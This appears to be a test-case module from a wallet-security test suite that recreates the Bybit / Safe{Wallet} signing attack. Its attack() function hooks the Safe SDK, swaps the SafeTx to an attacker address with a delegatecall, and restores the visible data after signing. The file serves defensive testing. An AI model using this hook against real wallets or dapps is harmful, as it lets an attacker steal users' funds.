// B02: the signature asked for covers a swapped SafeTx, and the page's own state is put back afterwards.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B02',
  title: 'SafeTx typed data swapped while signing, restored afterwards',
  source: 'Bybit / Safe{Wallet}, 21 February 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], contracts: [`${a.chain}:${a.SAFE}`], delegates: [] }),

  attack(a) {
    let sdk;
    Object.defineProperty(window, 'safeSDK', {
      configurable: true,
      get: () => sdk,
      set(genuine) {
        const sign = genuine.signTransaction;
        genuine.signTransaction = async (tx) => {
          const kept = structuredClone(tx.data);
          Object.assign(tx.data, { to: a.EVIL, value: '0', operation: 1 });
          const result = await sign(tx);
          tx.data = kept;
          result.data = structuredClone(kept);
          return result;
        };
        sdk = genuine;
      },
    });
  },

  async action(a, app) {
    const fields =
      'to:address value:uint256 data:bytes operation:uint8 safeTxGas:uint256 baseGas:uint256 gasPrice:uint256 gasToken:address refundReceiver:address nonce:uint256';
    const zero = `0x${'0'.repeat(40)}`;
    window.safeSDK = {
      async signTransaction(tx) {
        const typed = {
          types: {
            EIP712Domain: [
              { name: 'chainId', type: 'uint256' },
              { name: 'verifyingContract', type: 'address' },
            ],
            SafeTx: fields.split(' ').map((field) => ({ name: field.split(':')[0], type: field.split(':')[1] })),
          },
          primaryType: 'SafeTx',
          domain: { chainId: 31337, verifyingContract: a.SAFE },
          message: tx.data,
        };
        const params = [a.USER, JSON.stringify(typed)];
        return { data: tx.data, signature: await app.provider.request({ method: 'eth_signTypedData_v4', params }) };
      },
    };
    const data = {
      to: a.GOOD,
      value: '5',
      data: '0x',
      operation: 0,
      safeTxGas: '0',
      baseGas: '0',
      gasPrice: '0',
      gasToken: zero,
      refundReceiver: zero,
      nonce: '1',
    };
    return window.safeSDK.signTransaction({ data });
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD, 'eth_signTypedData_v4'),
  violation: (a) => ({ surface: 'eip1193', role: 'delegate', account: a.EVIL, grade: 'authority' }),
};
